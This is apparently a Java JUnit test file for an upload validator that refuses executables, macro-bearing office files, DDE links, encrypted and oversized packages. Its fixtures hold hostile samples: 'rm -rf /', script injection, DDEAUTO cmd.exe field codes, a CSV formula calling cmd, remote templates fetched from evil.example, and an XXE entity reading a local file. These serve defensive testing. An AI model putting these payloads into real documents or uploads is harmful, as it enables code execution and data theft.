package org.charterpath.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.charterpath.evidence.SampleFiles.contents;
import static org.charterpath.evidence.SampleFiles.hex;
import static org.charterpath.evidence.SampleFiles.office;
import static org.charterpath.evidence.SampleFiles.ole2;
import static org.charterpath.evidence.SampleFiles.openDocument;
import static org.charterpath.evidence.SampleFiles.pdf;
import static org.charterpath.evidence.SampleFiles.picture;
import static org.charterpath.evidence.SampleFiles.slides;
import static org.charterpath.evidence.SampleFiles.text;
import static org.charterpath.evidence.SampleFiles.windowsProgram;
import static org.charterpath.evidence.SampleFiles.workbook;
import static org.charterpath.evidence.SampleFiles.zip;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FileTypesTest {

    private static final String OOXML = "application/vnd.openxmlformats-officedocument.";
    private static final String OPEN_DOCUMENT = "application/vnd.oasis.opendocument.";

    @TempDir
    private Path folder;

    static Stream<Arguments> taken() {
        return Stream.of(
                arguments("plan.pdf", pdf("a plan"), "application/pdf"),
                arguments("plan.docx", office(OfficeFiles.WORD + ".main+xml"), OOXML + "wordprocessingml.document"),
                arguments("plan.xlsx", office(OfficeFiles.EXCEL + ".main+xml"), OOXML + "spreadsheetml.sheet"),
                arguments(
                        "plan.pptx",
                        office(OfficeFiles.POWERPOINT + ".main+xml"),
                        OOXML + "presentationml.presentation"),
                arguments("plan.doc", ole2("WordDocument", "1Table"), "application/msword"),
                arguments("plan.xls", ole2("Workbook"), "application/vnd.ms-excel"),
                arguments("old.xls", ole2("Book"), "application/vnd.ms-excel"),
                arguments("plan.ppt", ole2("PowerPoint Document"), "application/vnd.ms-powerpoint"),
                arguments("plan.xls", ole2("Workbook", workbook(0)), "application/vnd.ms-excel"),
                arguments(
                        "plan.ppt",
                        ole2("PowerPoint Document", slides(ole2("Workbook", workbook(0)), true)),
                        "application/vnd.ms-powerpoint"),
                arguments(
                        "chart.docx",
                        embedding("word/embeddings/a.xlsx", office(OfficeFiles.EXCEL + ".main+xml")),
                        OOXML + "wordprocessingml.document"),
                arguments(
                        "object.docx",
                        embedding("word/embeddings/a.bin", ole2("Workbook", workbook(0))),
                        OOXML + "wordprocessingml.document"),
                arguments("plan.odt", openDocument(OPEN_DOCUMENT + "text"), OPEN_DOCUMENT + "text"),
                arguments("plan.ods", openDocument(OPEN_DOCUMENT + "spreadsheet"), OPEN_DOCUMENT + "spreadsheet"),
                arguments("plan.odp", openDocument(OPEN_DOCUMENT + "presentation"), OPEN_DOCUMENT + "presentation"),
                arguments("map.png", picture("png"), "image/png"),
                arguments("map.jpg", picture("jpg"), "image/jpeg"),
                arguments("map.gif", picture("gif"), "image/gif"),
                arguments("map.webp", hex("52494646 24000000 57454250 56503820 18000000"), "image/webp"),
                arguments("map.heic", hex("00000018 66747970 68656963 00000000 6d696631 68656963"), "image/heic"),
                arguments("map.heif", hex("00000018 66747970 6d696631 00000000 6d696631 68656963"), "image/heif"),
                arguments("notes.txt", text("Größe: 3 m²\r\nSchluss\n"), "text/plain"),
                arguments("notes", text("no extension"), "text/plain"),
                arguments("hours.csv", text("day,minutes\n2025-11-03,90\n"), "text/csv"),
                arguments("MAP.PNG", picture("png"), "image/png"),
                arguments("map.jpeg", picture("jpg"), "image/jpeg"),
                arguments("map", picture("png"), "image/png"),
                arguments("plan.v2.pdf", pdf("%"), "application/pdf"),
                arguments("notes.txt.", text("a dot too many"), "text/plain"));
    }

    @ParameterizedTest
    @MethodSource
    void taken(String name, byte[] content, String type) throws IOException {
        assertThat(FileTypes.check(file(content), name)).isEqualTo(type);
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                arguments("plan.pdf", windowsProgram(), "x-msdownload"),
                arguments("plan.pdf", hex("7f454c46 02010100 00000000 00000000 0200 3e00 01000000"), "x-executable"),
                arguments("plan.pdf", text("<!DOCTYPE html><html><script>alert(1)</script></html>"), "text/html"),
                arguments("plan.txt", text("<html><body onload=alert(1)></html>"), "text/html"),
                arguments(
                        "map.png", text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>"), "image/svg+xml"),
                arguments("page.html", text("looks like text"), "text/html"),
                arguments("run.js", text("alert(1)"), "javascript"),
                arguments("run.sh", text("#!/bin/sh\nrm -rf /\n"), "sh"),
                arguments("run.bat", text("del *.*"), "bat"),
                arguments("letter.rtf", text("{\\rtf1 hello}"), "rtf"),
                arguments("letter.eml", text("From: a@b.example\nTo: c@d.example\nSubject: x\n\nhello\n"), "rfc822"),
                arguments("all.zip", zip(contents("plan.txt", "x")), "application/zip"),
                arguments("plan.docx", zip(contents("word/document.xml", "<w/>")), "application/zip"),
                arguments("plan.docx", zip(contents("META-INF/MANIFEST.MF", "x")), "application/"),
                arguments("drawing.vsdx", office("application/vnd.ms-visio.drawing.main+xml"), "application/"),
                arguments("plan.odg", openDocument(OPEN_DOCUMENT + "graphics"), "graphics"),
                arguments(
                        "plan.docx",
                        office("application/vnd.ms-word.document.macroEnabled.main+xml"),
                        "a document with macros"),
                arguments("plan.docx", office("application/vnd.ms-office.vbaProject"), "a document with macros"),
                arguments("plan.odt", openDocument(OPEN_DOCUMENT + "text", "Basic/a.xml"), "a document with macros"),
                arguments("plan.doc", ole2("WordDocument", "Macros/"), "a document with macros"),
                arguments("plan.xls", ole2("Workbook", "_VBA_PROJECT_CUR/"), "a document with macros"),
                arguments("plan.docx", ole2("EncryptionInfo", "EncryptedPackage"), "locked with a password"),
                arguments("setup.doc", ole2("Binary.setup"), "application/x-tika-msoffice"),
                arguments("plan.doc", hex("d0cf11e0a1b11ae1 ffffffff ffffffff"), "damaged"),
                arguments("plan.docx", Arrays.copyOf(office(OfficeFiles.WORD + ".main+xml"), 90), "damaged"),
                arguments("plan.docx", office("\"><broken"), "damaged"),
                arguments("plan.docx", office("x".repeat(1024 * 1024)), "damaged"),
                arguments("song.mp3", hex("49443303 00000000 0000 fffb9064"), "audio/mpeg"),
                arguments("bytes.txt", hex("00010203 04050607"), "application/octet-stream"),
                // What whoever downloads it would run.
                arguments("map.pdf", picture("png"), "of the type image/png, and the name of such a file ends in .png"),
                arguments("map.bat", picture("png"), "ends in .png"),
                arguments("map.png.bat", picture("png"), "ends in .png"),
                arguments("map.BAT. .", picture("png"), "ends in .png"),
                arguments("map.hta", picture("gif"), "ends in .gif"),
                arguments("map.cmd", picture("jpg"), "ends in .jpg or .jpeg"),
                arguments("plan.html", pdf("x"), "ends in .pdf"),
                arguments("plan.exe", pdf("x"), "ends in .pdf"),
                arguments("plan.docm", office(OfficeFiles.WORD + ".main+xml"), "ends in .docx"),
                arguments("plan.xlsm", office(OfficeFiles.EXCEL + ".main+xml"), "ends in .xlsx"),
                arguments("plan.dot", ole2("WordDocument"), "ends in .doc"),
                arguments("plan.scr", openDocument(OPEN_DOCUMENT + "text"), "ends in .odt"),
                arguments("run.hta", text("looks like text"), "run.hta"),
                arguments("run.lnk", text("looks like text"), "run.lnk"),
                arguments("run.url", text("[InternetShortcut]\nURL=file://x"), "run.url"),
                arguments("run.wsf", text("looks like text"), "run.wsf"),
                arguments("run.ps1", text("Remove-Item"), "run.ps1"),
                arguments("run.vbs", text("looks like text"), "run.vbs"),
                arguments("run.reg", text("looks like text"), "run.reg"),
                arguments("run.scf", text("looks like text"), "run.scf"),
                arguments("run.chm", text("looks like text"), "run.chm"),
                arguments("run.desktop", text("[Desktop Entry]\nExec=x"), "run.desktop"),
                arguments("run.iqy", text("WEB\n1\nhttp://x"), "run.iqy"),
                arguments("run.slk", text("ID;PWXL;N;E"), "run.slk"),
                arguments("run.settingcontent-ms", text("looks like text"), "run.settingcontent-ms"),
                arguments("run.js.", text("alert(1)"), "run.js"),
                arguments("run.\uFF42at", text("looks like text"), "ends in .txt"),
                arguments(".htaccess", text("looks like text"), ".htaccess"),
                arguments("plan.pdf", new byte[0], "empty"));
    }

    @ParameterizedTest
    @MethodSource
    void refused(String name, byte[] content, String found) throws IOException {
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, name))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageStartingWith("'%s' is not taken: it is ", name)
                .hasMessageContaining(found)
                .hasMessageContaining("Allowed are PDF, Word, Excel");
    }

    /** One way to say that there are macros is enough, however it is written. */
    static Stream<Arguments> findsMacrosHoweverThePackageSpellsThem() {
        String relation = "<Relationships><Relationship Id=\"r\" Type=\"%s\" Target=\"%s\"/></Relationships>";
        String plainType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";
        return Stream.of(
                arguments(
                        "the type of a part in capitals",
                        word("<Override PartName=\"/a.bin\" ContentType=\"APPLICATION/VND.MS-OFFICE.VBAPROJECT\"/>")),
                arguments(
                        "the type of an extension",
                        word("<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
                arguments(
                        "character references",
                        word(
                                "<Override PartName=\"/a.bin\" ContentType=\"application/vnd.ms-office.vba&#80;roject\"/>")),
                arguments(
                        "an embedded document",
                        word(
                                "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-excel.sheet.macroenabled.12\"/>")),
                arguments(
                        "a sheet of macros",
                        word(
                                "<Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-excel.intlmacrosheet+xml\"/>")),
                arguments(
                        "a control that runs",
                        word("<Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>")),
                arguments("the name of a part", word("", "word/vbaProject.bin", "x")),
                arguments("the name of a part in capitals", word("", "WORD/VBAPROJECT.BIN", "x")),
                arguments("the name of a part with percent signs", word("", "word/%76%62aProject.bin", "x")),
                arguments("percent signs of percent signs", word("", "word/%2576baProject.bin", "x")),
                arguments("backslashes", word("", "word\\vbaProject.bin", "x")),
                arguments(
                        "a relation to another name",
                        word(
                                "",
                                "word/_rels/document.xml.rels",
                                relation.formatted(
                                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                        "media/image1.png"))),
                arguments(
                        "a relation in capitals",
                        word(
                                "",
                                "WORD/_RELS/DOCUMENT.XML.RELS",
                                relation.formatted(
                                        "HTTP://schemas.microsoft.com/office/2006/relationships/VBAPROJECT", "a.bin"))),
                arguments(
                        "a target with percent signs",
                        word("", "word/_rels/document.xml.rels", relation.formatted(plainType, "vba%50roject.bin"))),
                arguments(
                        "a second table",
                        word(
                                "",
                                "[CONTENT_TYPES].XML",
                                "<Types><Override PartName=\"/a.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")),
                arguments(
                        "folders of OpenDocument in capitals",
                        openDocument(OPEN_DOCUMENT + "text", "BASIC/Standard/a.xml")),
                arguments(
                        "folders of OpenDocument with percent signs",
                        openDocument(OPEN_DOCUMENT + "text", "%53cripts/python/a.py")),
                arguments(
                        "folders of OpenDocument with a step",
                        openDocument(OPEN_DOCUMENT + "text", "./Scripts/python/a.py")),
                arguments(
                        "a call of OpenDocument",
                        openText("<a href=\"vnd.sun.star.script:Tools.Misc?language=Basic&amp;location=share\"/>")),
                arguments("a call of OpenDocument in capitals", openText("<a href=\"VND.SUN.STAR.SCRIPT:a\"/>")),
                arguments(
                        "a call of OpenDocument with character references",
                        openText("<a href=\"&#x76;nd.sun.star.script:a\"/>")),
                arguments(
                        "a call of a macro by its old address",
                        openText("<a href=\"macro:///Standard.Module1.Main\"/>")),
                arguments("a sheet of macros in an old workbook", ole2("Workbook", workbook(1))),
                arguments("a module in an old workbook", ole2("Workbook", workbook(6))),
                arguments("a sheet of macros in a still older workbook", ole2("Book", workbook(1))),
                arguments(
                        "macros in old slides, compressed",
                        ole2("PowerPoint Document", slides(ole2("VBA/", "PROJECT"), true))),
                arguments(
                        "macros in old slides, not compressed",
                        ole2("PowerPoint Document", slides(ole2("VBA/", "PROJECT"), false))),
                arguments(
                        "old slides that say that they have macros",
                        ole2(
                                "PowerPoint Document",
                                hex("1f00ff0314000000 020000040c000000 05000000 01000000 02000000"
                                        + "00".repeat(4096)))),
                arguments(
                        "a workbook with a sheet of macros in old slides",
                        ole2("PowerPoint Document", slides(ole2("Workbook", workbook(1)), true))),
                arguments(
                        "an object with macros in a new document",
                        embedding("word/embeddings/a.bin", ole2("WordDocument", "Macros/"))),
                arguments(
                        "an object with a sheet of macros in a new document",
                        embedding("word/media/picture.png", ole2("Workbook", workbook(1)))),
                arguments(
                        "a document with macros in a new document, by another name",
                        embedding("word/embeddings/a.xlsx", office("application/vnd.ms-office.vbaProject"))),
                arguments(
                        "three documents deep",
                        embedding(
                                "word/embeddings/a.docx",
                                embedding(
                                        "word/embeddings/b.docx",
                                        embedding("word/embeddings/c.bin", ole2("WordDocument", "Macros/"))))),
                arguments(
                        "a binary workbook",
                        word("<Override PartName=\"/xl/workbook.bin\""
                                + " ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/>")),
                arguments(
                        "a sheet of macros in a binary workbook",
                        word("<Override PartName=\"/a.bin\" ContentType=\"application/vnd.ms-excel.macrosheet\"/>")),
                arguments("a folder of macro sheets", word("", "xl/macrosheets/sheet1.xml", "x")),
                arguments("deep inside of an old document", embedded("ObjectPool", "_1", "VBA")),
                arguments("an old document in capitals", ole2("WordDocument", "MACROS/")));
    }

    private static byte[] word(String more, String... nameAndContent) {
        Map<String, String> parts = contents(
                "[Content_Types].xml",
                "<Types><Override PartName=\"/main.xml\" ContentType=\"%s.main+xml\"/>%s</Types>"
                        .formatted(OfficeFiles.WORD, more),
                "word/document.xml",
                "<w/>");
        parts.putAll(contents(nameAndContent));
        return zip(parts);
    }

    /** A Word document with one more part. */
    private static byte[] embedding(String name, byte[] part) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream document = new ZipInputStream(new ByteArrayInputStream(word("")));
                ZipOutputStream more = new ZipOutputStream(bytes)) {
            for (ZipEntry entry = document.getNextEntry(); entry != null; entry = document.getNextEntry()) {
                more.putNextEntry(new ZipEntry(entry.getName()));
                document.transferTo(more);
            }
            more.putNextEntry(new ZipEntry(name));
            more.write(part);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] openText(String text) {
        return zip(contents("mimetype", OPEN_DOCUMENT + "text", "content.xml", "<office>%s</office>".formatted(text)));
    }

    private static byte[] embedded(String... folders) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (POIFSFileSystem files = new POIFSFileSystem()) {
            files.createDocument(new ByteArrayInputStream(new byte[4096]), "WordDocument");
            DirectoryEntry folder = files.getRoot();
            for (String name : folders) {
                folder = folder.createDirectory(name);
            }
            files.writeFilesystem(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void findsMacrosHoweverThePackageSpellsThem(String way, byte[] content) throws IOException {
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, "plan"))
                .as(way)
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("a document with macros");
    }

    /** What people do every day, and looks a little like it. */
    static Stream<Arguments> takesLinksThatNobodyFollowsUnasked() {
        return Stream.of(
                arguments("plan.docx", linking("hyperlink", "https://example.org/page")),
                arguments("plan.docx", linking("image", "https://example.org/logo.png")),
                arguments("plan.docx", linking("attachedTemplate", "file:///C:\\Users\\ana\\letter.dotx")),
                arguments("plan.docx", linking("attachedTemplate", "file:///Users/ana/letter.dotx")),
                arguments("plan.docx", linking("oleObject", "../embeddings/oleObject1.bin")),
                arguments("plan.docx", linking("externalLinkPath", "https://school.example/budget.xlsx")),
                arguments("plan.docx", linking("xlExternalLinkPath/xlPathMissing", "\\\\server\\budget.xlsx")),
                arguments("plan.docx", fields(instruction("PAGE"), instruction(" HYPERLINK dde "))),
                arguments("plan.docx", fields(instruction("IF ", instruction("PAGE")))),
                arguments("plan.docx", word("", "xl/drawings/a.vml", "<xml xmlns:v=\"urn:v\"><br></xml>")),
                arguments("plan.odt", openText("<object href=\"./Object 1\"/><image href=\"https://a.example/a\"/>")),
                arguments("plan.xls", ole2("Workbook", linkedBook("01 01 43 03 61 2e 78 6c 73"))),
                arguments("plan.doc", ole2("WordDocument", text("\u0013 HYPERLINK DDE \u0014"))),
                arguments("hours.csv", text("day,minutes,note\n2025-11-03,-90,yes|no! Really\n2025-11-04,=A2*2,x\n")));
    }

    @ParameterizedTest
    @MethodSource
    void takesLinksThatNobodyFollowsUnasked(String name, byte[] content) throws IOException {
        Path file = file(content);

        assertThat(FileTypes.check(file, name)).isNotEmpty();
    }

    static Stream<Arguments> refusesWhatADocumentDoesWhenItIsOpened() {
        String dde = "a document with a DDE link";
        String fetches = "a document that fetches a part of itself from elsewhere";
        return Stream.of(
                arguments("plan.docx", fields(instruction(" DDEAUTO cmd.exe ")), dde),
                arguments("plan.docx", fields(instruction("dde Excel a.xls")), dde),
                arguments("plan.docx", fields(instruction("DD", "EAU", "TO cmd")), dde),
                arguments("plan.docx", fields(instruction("IF 1 = 1 ", instruction("DDEAUTO cmd"))), dde),
                arguments("plan.docx", fields(instruction(instruction("QUOTE 68 68 69"), " cmd")), dde),
                arguments("plan.docx", fields(instruction("D", instruction("QUOTE 68 69"), " cmd")), dde),
                arguments("plan.docx", fields("<w:fldSimple w:instr=\"DDEAUTO cmd\"/>"), dde),
                arguments("plan.docx", word("", "word/a.bin", " ".repeat(600) + "<fldSimple instr=\"DDE cmd\"/>"), dde),
                arguments(
                        "plan.xlsx",
                        word("", "xl/externalLinks/a.xml", "<externalLink><ddeLink/></externalLink>"),
                        dde),
                arguments("plan.ods", openText("<dde-source dde-application=\"soffice\"/>"), dde),
                arguments("plan.ods", openText("<table-cell formula=\"of:=DDE(&quot;soffice&quot;)\"/>"), dde),
                arguments("plan.doc", ole2("WordDocument", text("\u0013 DDEAUTO cmd \u0014")), dde),
                arguments(
                        "plan.doc",
                        ole2("WordDocument", "\u0013 ddeauto cmd \u0014".getBytes(StandardCharsets.UTF_16LE)),
                        dde),
                arguments("plan.xls", ole2("Workbook", linkedBook("63 6d 64 03 2f 63")), dde),
                arguments("hours.csv", text("day\n\"=cmd|' /C calc'!A0\"\n"), dde),
                arguments("plan.docx", linking("attachedTemplate", "https://evil.example/a.dotm"), fetches),
                arguments("plan.docx", linking("attachedTemplate", "file:///\\\\evil\\a.dotm"), fetches),
                arguments("plan.docx", linking("attachedTemplate", "%5C%5Cevil\\a.dotm"), fetches),
                arguments("plan.docx", linking("oleObject", "HTTPS://evil.example/a.html!"), fetches),
                arguments("plan.docx", linking("oleObject", "mhtml:https://evil.example/a!x-usc:b"), fetches),
                arguments("plan.docx", linking("frame", "https://evil.example/a.docx"), fetches),
                arguments("plan.docx", linking("image", "file://evil/a.png"), fetches),
                arguments(
                        "plan.docx",
                        embedding("word/embeddings/a.docx", linking("attachedTemplate", "https://evil.example/a.dotm")),
                        fetches),
                arguments(
                        "plan.doc",
                        ole2("\u0001Ole", hex("0100000201000000 e0c9ea79f9bace118c8200aa004ba90b" + "00".repeat(64))),
                        fetches),
                arguments("plan.odt", openText("<floating-frame href=\"https://evil.example/a\"/>"), fetches),
                arguments(
                        "plan.pptx",
                        word("", "ppt/slides/slide1.xml", "<sld><hlinkClick action=\"ppaction://program\"/></sld>"),
                        "a document that starts another program"),
                arguments(
                        "plan.docx",
                        embedding(
                                "word/embeddings/a.odt", openDocument(OPEN_DOCUMENT + "text", "Basic/Standard/a.xml")),
                        "a document with macros"));
    }

    @ParameterizedTest
    @MethodSource
    void refusesWhatADocumentDoesWhenItIsOpened(String name, byte[] content, String found) throws IOException {
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, name))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageStartingWith("'%s' is not taken: it is ", name)
                .hasMessageContaining(found);
    }

    private static byte[] linking(String type, String target) {
        return word(
                "",
                "word/_rels/settings.xml.rels",
                "<r><Relationship Type=\"%s/%s\" Target=\"%s\" TargetMode=\"External\"/></r>"
                        .formatted(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships", type, target));
    }

    /** A field whose code is spread over runs. */
    private static String instruction(String... runs) {
        StringBuilder field = new StringBuilder("<w:fldChar w:fldCharType=\"begin\"/>");
        for (String run : runs) {
            field.append(run.startsWith("<") ? run : "<w:instrText>%s</w:instrText>".formatted(run));
        }
        return field + "<w:fldChar w:fldCharType=\"separate\"/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/>";
    }

    private static byte[] fields(String... fields) {
        return word(
                "",
                "word/footer1.xml",
                "<w:ftr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">%s</w:ftr>"
                        .formatted(String.join("", fields)));
    }

    /** The stream of an old workbook that links to this path. */
    private static byte[] linkedBook(String path) {
        byte[] signs = hex(path);
        return hex("0908 1000 0006 0500 bb0d cc07 00000000 06000000 ae01 %02x00 0100 %02x00 00 %s 0a00 0000"
                .formatted(signs.length + 5, signs.length, path));
    }

    @Test
    void refusesMoreTablesThanAnyPackageHas() throws IOException {
        String table = "<r>" + " ".repeat(1024 * 1024 - 7) + "</r>";
        String[] tables = IntStream.range(0, 300)
                .boxed()
                .flatMap(number -> Stream.of("word/_rels/%d.rels".formatted(number), table))
                .toArray(String[]::new);
        byte[] content = word("", tables);
        assertThat(content).hasSizeLessThan(1024 * 1024);
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    @Test
    void refusesMorePartsThanAnyPackageHas() throws IOException {
        String[] parts = IntStream.range(0, 10_001)
                .boxed()
                .flatMap(number -> Stream.of(number.toString(), ""))
                .toArray(String[]::new);
        Path file = file(word("", parts));

        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    static Stream<Arguments> refusesFilesThatArePackedIntoADocument() {
        return Stream.of(
                arguments("plan.doc", embedded("ObjectPool", "_1", "\u0001Ole10Native")),
                arguments("plan.docx", embedding("word/embeddings/a.bin", ole2("\u0001Ole10Native"))),
                arguments("plan.ppt", ole2("PowerPoint Document", slides(ole2("\u0001Ole10Native"), true))));
    }

    @ParameterizedTest
    @MethodSource
    void refusesFilesThatArePackedIntoADocument(String name, byte[] content) throws IOException {
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, name))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("a document with another file packed into it");
    }

    static Stream<Arguments> refusesOldDocumentsThatNobodyCanRead() {
        return Stream.of(
                arguments("plan.xls", ole2("Workbook", hex("0908 1000" + "00".repeat(16) + "2f00 0600 000000000000"))),
                arguments(
                        "plan.ppt", ole2("Current User", hex("0000f60f14000000 14000000 dfc4d1f3" + "00".repeat(20)))));
    }

    @ParameterizedTest
    @MethodSource
    void refusesOldDocumentsThatNobodyCanRead(String name, byte[] content) throws IOException {
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, name))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("locked with a password");
    }

    @Test
    void refusesAnEmbeddedFileThatNeverEnds() throws IOException {
        byte[] endless = new byte[33 * 1024 * 1024];
        System.arraycopy(ole2("WordDocument"), 0, endless, 0, 512);
        Path file = file(embedding("word/embeddings/a.bin", endless));

        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    @Test
    void refusesFilesInFilesThatAreMoreThanAnybodyEmbeds() throws IOException {
        ByteArrayOutputStream slides = new ByteArrayOutputStream();
        byte[] one = slides(ole2("Workbook", workbook(0)), true);
        for (int part = 0; part < 600; part++) {
            slides.writeBytes(one);
        }
        Path file = file(ole2("PowerPoint Document", slides.toByteArray()));

        assertThatThrownBy(() -> FileTypes.check(file, "plan.ppt"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    @Test
    void refusesMoreWorkbooksInOneFileThanAnybodyHas() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (POIFSFileSystem files = new POIFSFileSystem()) {
            for (int folder = 0; folder < 600; folder++) {
                files.getRoot()
                        .createDirectory("folder" + folder)
                        .createDocument("Workbook", new ByteArrayInputStream(workbook(0)));
            }
            files.writeFilesystem(bytes);
        }
        Path file = file(bytes.toByteArray());

        assertThatThrownBy(() -> FileTypes.check(file, "plan.xls"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    @Test
    void refusesSlidesFullOfWhatOnlyLooksPacked() throws IOException {
        byte[] slides = new byte[1024 * 1024];
        for (int at = 0; at + 4 <= slides.length; at += 4) {
            slides[at] = 0x78;
            slides[at + 1] = (byte) 0x9C;
            slides[at + 2] = 0x11;
            slides[at + 3] = 0x10;
        }
        Path file = file(ole2("PowerPoint Document", slides));

        assertThatThrownBy(() -> FileTypes.check(file, "plan.ppt"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    /** The library takes a comment for text as soon as it looks at the entry. */
    @Test
    void refusesAPackageWithACommentThatIsNoText() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            ZipEntry entry = new ZipEntry("[Content_Types].xml");
            entry.setComment("\u00e9");
            zip.putNextEntry(entry);
        }
        byte[] content = bytes.toByteArray();
        for (int at = 1; at < content.length; at++) {
            if (content[at - 1] == (byte) 0xC3 && content[at] == (byte) 0xA9) {
                content[at] = '(';
            }
        }
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    @Test
    void refusesAnOpenDocumentThatNobodyCanRead() throws IOException {
        Path file = file(zip(contents(
                "mimetype",
                OPEN_DOCUMENT + "text",
                "META-INF/manifest.xml",
                "<manifest><file-entry><encryption-data/></file-entry></manifest>")));

        assertThatThrownBy(() -> FileTypes.check(file, "plan.odt"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("locked with a password");
    }

    @Test
    void readsNoFileThatATableOfContentsNames() throws IOException {
        String secret = Files.writeString(folder.resolve("secret"), "macroEnabled")
                .toUri()
                .toString();
        byte[] content = zip(contents(
                "[Content_Types].xml",
                "<!DOCTYPE t [<!ENTITY e SYSTEM \"%s\">]><Types>&e;<Override ContentType=\"%s.main+xml\"/></Types>"
                        .formatted(secret, OfficeFiles.WORD)));
        Path file = file(content);

        assertThatThrownBy(() -> FileTypes.check(file, "plan.docx"))
                .isInstanceOf(RefusedFileException.class)
                .hasMessageContaining("it is damaged");
    }

    private Path file(byte[] content) throws IOException {
        return Files.write(folder.resolve("upload"), content);
    }
}
